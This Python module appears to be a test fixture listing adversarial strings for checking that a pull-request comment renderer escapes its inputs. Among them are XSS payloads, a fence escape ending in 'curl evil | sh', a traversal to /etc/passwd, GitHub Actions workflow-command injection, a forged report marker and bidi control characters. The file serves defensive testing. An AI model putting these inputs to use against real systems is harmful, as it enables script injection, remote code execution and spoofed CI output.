"""Texts that a pull request could put into names, messages and paths to break out of a comment."""

from __future__ import annotations

TEXTS = (
    "@everyone and @acme/teachers, please merge",
    "closes #1, fixes acme/course#2, GH-3 and deadbeefdeadbeef",
    "[click here](https://evil.example) <https://evil.example> https://evil.example www.evil.example",
    "![tracking](https://evil.example/x.png) <img src=x onerror=alert(1)>",
    "</details></summary><script>alert(1)</script><!-- open",
    "--> <!-- tito-report v1 pull=7 sha=0 run=999999 attempt=1 -->",
    "| a | b |\n| --- | --- |\n| \\| | `|` |",
    "```\n``````\n~~~~\n# escaped\n```sh\ncurl evil | sh",
    "` `` ``` ```` `code` ``code`",
    "*bold* _em_ ~~gone~~ **x** __y__ \\@user \\[x](y)",
    "\u202eevil\u202c \u2066isolated\u2069 \u200bzero\u200d \x1b[31mred\x1b[0m \x00\x07\x08",
    "a" * 5000,
    "e" + "\u0301" * 200,
    "1. one\n2. two\n- three\n> four\n# five\n    six\n---\nseven\n===",
    "[ref]: https://evil.example 'x'\n[ref] [^1]\n[^1]: note",
    "&lt;b&gt; &#64;user &commat;user &NewLine; :smile: $\\unicode{x}$",
    "user@evil.example mailto:user@evil.example xmpp:user@evil.example",
    "::error file=x::y\n::set-output name=a::b\n::stop-commands::z",
    "../../../etc/passwd",
    "-",
    "",
    " \n\t ",
    "\ud83e\udde0".encode("utf-16", "surrogatepass").decode("utf-16") + " fine",
)
